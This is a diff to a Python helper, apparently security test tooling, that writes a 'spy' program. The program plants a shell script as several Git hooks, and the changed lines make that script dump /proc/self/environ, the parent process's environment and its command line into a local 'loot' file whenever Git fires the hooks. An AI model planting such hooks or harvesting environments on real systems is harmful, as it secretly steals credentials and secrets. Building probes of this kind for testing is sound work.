@@ -5,7 +5,7 @@ from __future__ import annotations
 from pathlib import Path
 
 _SPY = '''\
-import os, pathlib, stat, subprocess, sys
+import os, pathlib, subprocess
 
 LOOT = pathlib.Path({loot!r})
 
@@ -29,12 +29,13 @@ def look():
 
 def plant():
     """What Git runs by itself, in the checkout."""
-    here = pathlib.Path(__file__).resolve()
     top = pathlib.Path(
         subprocess.check_output(["git", "rev-parse", "--absolute-git-dir"], text=True).strip()
     )
     trap = top / "trap"
-    trap.write_text(f"#!/bin/sh\\n{{sys.executable}} {spy!r} trap\\ncat\\n")
+    # In plain shell: the Python of this job is gone when the trap is sprung.
+    around = "cat /proc/self/environ /proc/$PPID/environ /proc/$PPID/cmdline"
+    trap.write_text(f"#!/bin/sh\\n{{around}} >>{loot!r} 2>/dev/null\\ncat\\n")
     trap.chmod(0o755)
     for hook in ("post-checkout", "reference-transaction", "pre-push", "post-index-change"):
         (top / "hooks").mkdir(exist_ok=True)
@@ -47,8 +48,7 @@ def plant():
 
 
 look()
-if sys.argv[1:] != ["trap"]:
-    plant()
+plant()
 '''
 
 
@@ -57,7 +57,7 @@ def spy(root: Path) -> tuple[str, Path]:
     all of it ends up.
     """
     loot, program = root / "loot", root / "spy.py"
-    program.write_text(_SPY.format(loot=str(loot), spy=str(program)))
+    program.write_text(_SPY.format(loot=str(loot)))
     loot.write_bytes(b"")
     run = (
         f"import subprocess, sys\nsubprocess.run([sys.executable, {str(program)!r}], check=True)\n"
